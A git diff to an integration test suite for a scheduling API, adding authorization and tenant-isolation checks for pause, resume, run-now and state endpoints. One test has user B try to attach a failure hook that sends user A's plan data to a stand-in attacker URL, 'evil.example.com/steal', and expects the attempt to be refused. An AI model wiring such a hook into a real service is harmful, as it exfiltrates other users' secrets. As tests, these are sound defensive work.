@@ -6,6 +6,7 @@ import { DataSource } from 'typeorm';
 import { KEY_PREFIX_LENGTH } from '../src/auth/api-key';
 import { createApp } from '../src/app.factory';
 import { loadConfig } from '../src/config/config.loader';
+import { HttpSink } from './support/http-sink';
 import { runNativeClient } from './support/karya-client-native';
 import { RecordingProxy } from './support/karya-client-recorder';
 import { freePort, KaryaProcess } from './support/karya-process';
@@ -43,6 +44,18 @@ function planRequest(userId: string, extra: Json = {}): Json {
   };
 }
 
+/**
+ * A Recurring plan an hour apart whose action calls `sinkUrl` (on 127.0.0.1): what pause, resume and run now
+ * act on. Run now makes it run at once, so it must call nothing beyond loopback.
+ */
+function recurringRequest(userId: string, sinkUrl: string): Json {
+  return planRequest(userId, {
+    description: 'auth matrix, schedules',
+    plan_type: { type: 'karya.core.entities.PlanType.Recurring', overlap: 'SKIP' },
+    action: { type: 'karya.core.entities.Action.RestApiRequest', base_url: sinkUrl, headers: { Authorization: 'Bearer users-own-secret' } },
+  });
+}
+
 /** Sends raw bytes as a request and returns the status line's code: for headers Node's client will not send. */
 function rawRequest(port: number, head: Buffer): Promise<number> {
   return new Promise((resolve, reject) => {
@@ -60,6 +73,8 @@ function rawRequest(port: number, head: Buffer): Promise<number> {
 
 describe('apikey mode on real PostgreSQL, Redis and RabbitMQ', () => {
   const tmp = new TempDir();
+  /** The target of plans that run now; the executor may reach it (executor.yml allows private networks). */
+  const sink = new HttpSink();
   let db: TestDatabase;
   let app: INestApplication;
   let http: ReturnType<INestApplication['getHttpServer']>;
@@ -74,9 +89,11 @@ describe('apikey mode on real PostgreSQL, Redis and RabbitMQ', () => {
 
   beforeAll(async () => {
     db = await createTestDatabase();
+    await sink.start();
     const { config } = loadConfig({
       KARYA_PROVIDERS_CONFIG_PATH: writeRealProviders(tmp, { pgUrl: db.url }),
       KARYA_SERVER_CONFIG_PATH: tmp.write('server.yml', serverYml()),
+      KARYA_EXECUTOR_CONFIG_PATH: tmp.write('executor.yml', 'application:\n  egress:\n    allowPrivateNetworks: true\n'),
       KARYA_ADMIN_KEY: ADMIN_KEY,
     });
     app = await createApp(config, { logger: false });
@@ -94,6 +111,7 @@ describe('apikey mode on real PostgreSQL, Redis and RabbitMQ', () => {
 
   afterAll(async () => {
     await app?.close();
+    await sink.stop();
     await db?.drop();
     tmp.cleanup();
   });
@@ -120,6 +138,13 @@ describe('apikey mode on real PostgreSQL, Redis and RabbitMQ', () => {
   const send = (req: request.Test, auth: string | undefined) => (auth === undefined ? req : req.set('Authorization', auth));
   /** A fresh plan of A for each call that changes one, so calls do not depend on each other's effects. */
   const planOfA = async () => (await request(http).post('/v1/plan').set('Authorization', admin()).send(planRequest(userA.id as string)).expect(200)).body.id as string;
+  /** A fresh recurring plan of A (calling the sink), paused by the admin when `paused`. */
+  const scheduleOfA = async (paused = false) => {
+    const id = (await request(http).post('/v1/plan').set('Authorization', admin()).send(recurringRequest(userA.id as string, `${sink.baseUrl}/a`)).expect(200))
+      .body.id as string;
+    if (paused) await request(http).post(`/v1/plan/${id}/pause`).set('Authorization', admin()).expect(200);
+    return id;
+  };
   const keyOfA = async () => (await request(http).post(`/v1/user/${userA.id}/keys`).set('Authorization', admin()).expect(200)).body.id as string;
 
   const endpoints: Endpoint[] = [
@@ -131,6 +156,11 @@ describe('apikey mode on real PostgreSQL, Redis and RabbitMQ', () => {
     { name: 'GET /v1/plan/{id}', call: async (a) => send(request(http).get(`/v1/plan/${await planOfA()}`), a), expect: { other: 404, own: 200, admin: 200 } },
     { name: 'GET /v1/plan/{id}/summary', call: async (a) => send(request(http).get(`/v1/plan/${await planOfA()}/summary`), a), expect: { other: 404, own: 200, admin: 200 } },
     { name: 'POST /v1/plan/{id} (cancel)', call: async (a) => send(request(http).post(`/v1/plan/${await planOfA()}`).type('form').send(''), a), expect: { other: 404, own: 200, admin: 200 } },
+    { name: 'GET /v1/plan?user_id=&status=', call: (a) => send(request(http).get('/v1/plan').query({ user_id: userA.id as string, status: 'paused' }), a), expect: { other: 403, own: 200, admin: 200 } },
+    { name: 'GET /v1/plan/{id}/state', call: async (a) => send(request(http).get(`/v1/plan/${await scheduleOfA()}/state`), a), expect: { other: 404, own: 200, admin: 200 } },
+    { name: 'POST /v1/plan/{id}/pause', call: async (a) => send(request(http).post(`/v1/plan/${await scheduleOfA()}/pause`), a), expect: { other: 404, own: 200, admin: 200 } },
+    { name: 'POST /v1/plan/{id}/resume', call: async (a) => send(request(http).post(`/v1/plan/${await scheduleOfA(true)}/resume`), a), expect: { other: 404, own: 200, admin: 200 } },
+    { name: 'POST /v1/plan/{id}/run', call: async (a) => send(request(http).post(`/v1/plan/${await scheduleOfA()}/run`), a), expect: { other: 404, own: 200, admin: 200 } },
     { name: 'POST /v1/user/{id}/keys', call: (a) => send(request(http).post(`/v1/user/${userA.id}/keys`), a), expect: { other: 403, own: 200, admin: 200 } },
     { name: 'GET /v1/user/{id}/keys', call: (a) => send(request(http).get(`/v1/user/${userA.id}/keys`), a), expect: { other: 403, own: 200, admin: 200 } },
     { name: 'DELETE /v1/user/{id}/keys/{key_id}', call: async (a) => send(request(http).delete(`/v1/user/${userA.id}/keys/${await keyOfA()}`), a), expect: { other: 403, own: 200, admin: 200 } },
@@ -231,7 +261,24 @@ describe('apikey mode on real PostgreSQL, Redis and RabbitMQ', () => {
     const asA = `Bearer ${keyA}`;
     const asB = `Bearer ${keyB}`;
     const planId = (await request(http).post('/v1/plan').set('Authorization', asA).send(planRequest(userA.id as string)).expect(200)).body.id as string;
-    const before = (await request(http).get(`/v1/plan/${planId}/summary`).set('Authorization', asA).expect(200)).body;
+    // A recurring plan (pause, run now) and a paused one (resume), each calling its own path of the sink.
+    const recurringId = (await request(http).post('/v1/plan').set('Authorization', asA).send(recurringRequest(userA.id as string, `${sink.baseUrl}/isolation`)).expect(200))
+      .body.id as string;
+    const pausedId = (await request(http).post('/v1/plan').set('Authorization', asA).send(recurringRequest(userA.id as string, `${sink.baseUrl}/isolation`)).expect(200))
+      .body.id as string;
+    await request(http).post(`/v1/plan/${pausedId}/pause`).set('Authorization', asA).expect(200);
+    const ids = [planId, recurringId, pausedId];
+    /** What A sees of each plan: its summary (plan, tasks, error logs) and its schedule state. */
+    const snapshot = async () =>
+      Promise.all(
+        ids.map(async (id) => ({
+          summary: (await request(http).get(`/v1/plan/${id}/summary`).set('Authorization', asA).expect(200)).body,
+          state: (await request(http).get(`/v1/plan/${id}/state`).set('Authorization', asA).expect(200)).body,
+        })),
+      );
+    const before = await snapshot();
+    expect(before.map((p) => p.state.status)).toEqual(['CREATED', 'CREATED', 'PAUSED']);
+    expect(before.map((p) => p.summary.tasks.length)).toEqual([1, 1, 1]);
 
     const hookToB = [{ trigger: 'ON_FAILURE', action: { type: 'karya.core.entities.Action.RestApiRequest', base_url: 'evil.example.com/steal' } }];
     const attempts: [string, request.Test, number][] = [
@@ -240,7 +287,15 @@ describe('apikey mode on real PostgreSQL, Redis and RabbitMQ', () => {
       ['patch hooks', request(http).patch('/v1/plan').send({ plan_id: planId, hooks: hookToB }), 404],
       ['patch period', request(http).patch('/v1/plan').send({ plan_id: planId, period_time: 'PT5S', max_failure_retry: 0 }), 404],
       ['cancel', request(http).post(`/v1/plan/${planId}`).type('form').send(''), 404],
+      ...ids.flatMap((id, i): [string, request.Test, number][] => [
+        [`state of plan ${i}`, request(http).get(`/v1/plan/${id}/state`), 404],
+        [`pause plan ${i}`, request(http).post(`/v1/plan/${id}/pause`), 404],
+        [`resume plan ${i}`, request(http).post(`/v1/plan/${id}/resume`), 404],
+        [`run plan ${i} now`, request(http).post(`/v1/plan/${id}/run`), 404],
+        [`cancel plan ${i}`, request(http).post(`/v1/plan/${id}`).type('form').send(''), 404],
+      ]),
       ['list', request(http).get('/v1/plan').query({ user_id: userA.id as string }), 403],
+      ['list paused', request(http).get('/v1/plan').query({ user_id: userA.id as string, status: 'PAUSED' }), 403],
       ['submit for A', request(http).post('/v1/plan').send(planRequest(userA.id as string)), 403],
       [
         'chained request for A inside own plan',
@@ -264,10 +319,16 @@ describe('apikey mode on real PostgreSQL, Redis and RabbitMQ', () => {
       // Nothing of A's plan (its action's own Authorization header included) leaks into the answer.
       expect(res.text).not.toContain('users-own-secret');
     }
-    const after = (await request(http).get(`/v1/plan/${planId}/summary`).set('Authorization', asA).expect(200)).body;
-    expect(after).toEqual(before);
+    // Unchanged: not paused, still paused, no extra task (run now), no call made.
+    expect(await snapshot()).toEqual(before);
+    expect(sink.hits.filter((h) => ids.includes(h.planId))).toEqual([]);
     const list = (await request(http).get('/v1/plan').query({ user_id: userB.id as string }).set('Authorization', asB).expect(200)).body;
     expect(list.total).toBe(0);
+    // A can list its own paused plan; the admin acts on A's plans.
+    const paused = (await request(http).get('/v1/plan').query({ user_id: userA.id as string, status: 'PAUSED' }).set('Authorization', asA).expect(200)).body;
+    expect((paused.plans as Json[]).map((p) => p.id)).toContain(pausedId);
+    const resumed = (await request(http).post(`/v1/plan/${pausedId}/resume`).set('Authorization', admin()).expect(200)).body;
+    expect({ plan_id: resumed.plan_id, status: resumed.status }).toEqual({ plan_id: pausedId, status: 'CREATED' });
   });
 
   it('names the nested field when a chained request is for another user, even for the admin', async () => {
